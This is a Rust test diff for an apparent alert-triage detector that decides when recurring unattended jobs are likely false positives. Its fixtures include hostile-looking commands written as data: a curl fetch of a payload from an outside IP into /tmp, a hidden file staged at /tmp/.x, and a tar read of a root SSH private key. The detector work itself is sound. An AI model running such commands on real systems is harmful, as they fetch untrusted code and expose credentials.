@@ -3049,6 +3049,101 @@ mod tests {
         assert_not_anchored(&lineage_job(908, 1000, &tty, vec![]), rule, "a terminal");
     }
 
+    /// Session 13 (helper recall13): a unit's or timer's job (init, no terminal, login,
+    /// runtime, service, scheduler or CI runner below it) is anchored by `job_recurs` only
+    /// when the same act recurs, quiet, in two or more separate sessions. One session is
+    /// not enough (`setsid cmd &` is re-parented to init too); neither is a repetition
+    /// whose other session fetched a payload, sits at a terminal, or answers a connection
+    /// from outside the site; a quiet read of a sensitive file recurring the same way is
+    /// the job's purpose (`job_reads_by_purpose`).
+    #[test]
+    fn a_timers_job_recurring_quietly_is_anchored_and_its_forgeries_are_not() {
+        let rule = "Clear Log Activities";
+        let unit = json!({"proc.tty":0,"proc.ppid":500,"proc.pname":"sh","proc.pcmdline":"sh -c rm -f /var/log/app/old.log","proc.aname[2]":"systemd"});
+        let recurs = |lines: &[String]| {
+            verdict_of(lines, rule)
+                .iter()
+                .any(|c| signals(c).contains(&"job_recurs"))
+        };
+        // Once: no anchor, whatever else.
+        let once = lineage_job(960, 1000, &unit, vec![]);
+        assert!(!recurs(&once));
+        assert_not_anchored(&once, rule, "one session");
+        // Twice, each quiet: anchored by the recurrence.
+        let mut twice = lineage_job(960, 1000, &unit, vec![]);
+        twice.extend(lineage_job(961, 90_000, &unit, vec![]));
+        let r = verdict_of(&twice, rule);
+        assert_eq!(r.len(), 1, "{r:#?}");
+        assert_eq!(r[0].verdict, Verdict::LikelyFalsePositive, "{:#?}", r[0]);
+        assert_eq!(r[0].anchor.as_deref(), Some("job_recurs (unattended)"));
+        // The other run fetched a payload first: it is no quiet session, and one is not
+        // a recurrence.
+        let fetch = json!({"evt.type":"execve","evt.rawres":0,"evt.rawtime":90_001,"proc.name":"curl","proc.exepath":"/usr/bin/curl","proc.cmdline":"curl -so /tmp/x https://203.0.113.50/x"});
+        let mut lines = lineage_job(960, 1000, &unit, vec![]);
+        lines.extend(lineage_job(961, 90_000, &unit, vec![fetch]));
+        assert!(!recurs(&lines), "a download in the other session");
+        assert_not_anchored(&lines, rule, "a download in the other session");
+        // The other run staged a hidden file in a temporary directory (a step no routine
+        // work takes, a veto): no quiet session either.
+        let staged = json!({"evt.type":"openat","evt.rawres":3,"evt.rawtime":90_001,"proc.name":"cp","proc.exepath":"/usr/bin/cp","fd.name":"/tmp/.x","evt.is_open_write":true,"fd.num":3});
+        let mut lines = lineage_job(960, 1000, &unit, vec![]);
+        lines.extend(lineage_job(961, 90_000, &unit, vec![staged]));
+        assert!(!recurs(&lines), "a hidden file staged in the other session");
+        // At a terminal, twice: a person (or an intruder), not a unit.
+        let tty = json!({"proc.tty":34816,"proc.pname":"sh","proc.aname[2]":"systemd"});
+        let mut lines = lineage_job(962, 1000, &tty, vec![]);
+        lines.extend(lineage_job(963, 90_000, &tty, vec![]));
+        assert!(!recurs(&lines), "a terminal");
+        // The parent daemon accepted a connection from outside the site (its work answers
+        // somebody there); from inside, it is still the unit's own work.
+        let accept = |cip: &str| {
+            l(
+                json!({"evt.type":"accept4","evt.rawres":5,"evt.rawtime":900,"proc.sid":1,"proc.pid":500,"proc.name":"printd","fd.cip":cip,"fd.sip":"10.0.0.5","fd.sport":631}),
+            )
+        };
+        let mut lines = vec![accept("203.0.113.9")];
+        lines.extend(twice.iter().cloned());
+        assert!(!recurs(&lines), "served outside");
+        assert_not_anchored(&lines, rule, "served outside");
+        let mut lines = vec![accept("10.60.14.87")];
+        lines.extend(twice.iter().cloned());
+        assert!(recurs(&lines), "served inside");
+        // A sensitive file only read, recurring quietly: its purpose, likely false positive;
+        // the same with a fetch in one run: not.
+        let read = |sid: i64, t0: i64, before: Vec<serde_json::Value>| {
+            let mut evs = before;
+            evs.push(json!({"evt.type":"execve","evt.rawres":0,"evt.rawtime":t0,"proc.name":"tar","proc.exepath":"/usr/bin/tar","proc.cmdline":"tar czf /var/backups/root.tgz /root"}));
+            evs.push(json!({"evt.type":"openat","evt.rawres":3,"evt.rawtime":t0 + 1,"proc.name":"tar","proc.exepath":"/usr/bin/tar","fd.name":"/root/.ssh/id_ed25519","evt.is_open_read":true,"fd.num":3}));
+            evs.into_iter()
+                .map(|mut v| {
+                    v["proc.sid"] = json!(sid);
+                    v["proc.tty"] = json!(0);
+                    v["proc.pname"] = json!("systemd");
+                    l(v)
+                })
+                .collect::<Vec<String>>()
+        };
+        let mut lines = read(970, 1000, vec![]);
+        lines.extend(read(971, 90_000, vec![]));
+        let r = verdict_of(&lines, "Read ssh");
+        assert_eq!(r.len(), 1, "{r:#?}");
+        assert_eq!(r[0].verdict, Verdict::LikelyFalsePositive, "{:#?}", r[0]);
+        assert!(
+            signals(&r[0]).contains(&"job_reads_by_purpose"),
+            "{:#?}",
+            r[0]
+        );
+        let mut lines = read(970, 1000, vec![]);
+        lines.extend(read(971, 90_000, vec![fetch_at(89_999)]));
+        for c in verdict_of(&lines, "Read ssh") {
+            assert_ne!(c.verdict, Verdict::LikelyFalsePositive, "{c:#?}");
+        }
+    }
+
+    fn fetch_at(t: i64) -> serde_json::Value {
+        json!({"evt.type":"execve","evt.rawres":0,"evt.rawtime":t,"proc.name":"curl","proc.exepath":"/usr/bin/curl","proc.cmdline":"curl -so /tmp/x https://203.0.113.50/x"})
+    }
+
     /// Issue 11 (session 7): a quiet cron job that only reads a sensitive file, nothing in
     /// its session reaching outside the site, is a likely false positive
     /// (`job_reads_by_purpose` offsets `target_sensitive`); the same read with an upload
